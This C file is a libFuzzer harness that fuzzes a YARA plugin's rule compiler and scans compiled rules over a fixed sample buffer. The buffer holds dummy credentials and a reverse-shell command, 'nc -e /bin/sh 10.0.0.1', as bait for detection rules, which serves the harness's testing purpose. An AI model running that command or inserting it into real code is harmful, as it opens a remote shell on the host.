/* fuzz-rules.c - libFuzzer harness for the yara plugin's rule path: source
 * rules compiled through plugins/yara/ruleset.c (file expansion, the
 * compiler's error and warning log, externals), then scanned over a small
 * buffer of checkpoint-like bytes.
 *
 * Input: one byte of flags (bit 0 strict mode, bit 1 pass the externals
 * below), then the rule source. Sources are what the user names with -r,
 * so they are trusted not to be malicious; what is looked for is a crash
 * on rules that are merely wrong. An include directive is skipped: it
 * would read whatever file the input names. Compiled rules (-C) are not
 * fed: libyara trusts their bytecode, and the README says so.
 */
#include "fuzz.h"

#include <string.h>
#include <unistd.h>
#include <yara.h>

#include "ruleset.h"

static const char scan_bytes[] =
    "CKPT-MARKER-HEAP-7f3a\0-----BEGIN RSA PRIVATE KEY-----\nMIIB\n"
    "xoxb-2718281828-314159\0AKIAIOSFODNN7EXAMPLE\0nc -e /bin/sh 10.0.0.1";

int
LLVMFuzzerInitialize(int *argc, char ***argv)
{
  (void)argc;
  (void)argv;
  return yr_initialize() == ERROR_SUCCESS ? 0 : 1;
}

static int
on_scan(YR_SCAN_CONTEXT *ctx, int message, void *data, void *user)
{
  (void)ctx;
  (void)data;
  (void)user;
  (void)message;
  return CALLBACK_CONTINUE;
}

int
LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
  if (size < 1 || size > 64 * 1024)
    return 0;
  if (memmem(data, size, "include", 7) != NULL)
    return 0;
  gboolean strict = data[0] & 1;
  static const char *const defines[] = {"level=5", "name=ckpt", "flag=true",
                                        "ratio=0.5", NULL};
  const char *const *defs = (data[0] & 2) ? defines : NULL;

  char path[64];
  int fd = ckpt_fuzz_memfd(data + 1, size - 1, path, sizeof(path));
  if (fd < 0)
    return 0;
  const char *sources[] = {path, NULL};
  GError *error = NULL;
  CkptYaraRuleset *rs =
      ckpt_yara_ruleset_new(sources, defs, strict, NULL, &error);
  g_assert((rs == NULL) == (error != NULL));
  if (rs != NULL) {
    g_assert(rs->rules != NULL && !rs->precompiled);
    yr_rules_scan_mem(rs->rules, (const uint8_t *)scan_bytes,
                      sizeof(scan_bytes), SCAN_FLAGS_FAST_MODE, on_scan, NULL,
                      1);
    ckpt_yara_ruleset_free(rs);
  }
  g_clear_error(&error);
  close(fd);
  return 0;
}
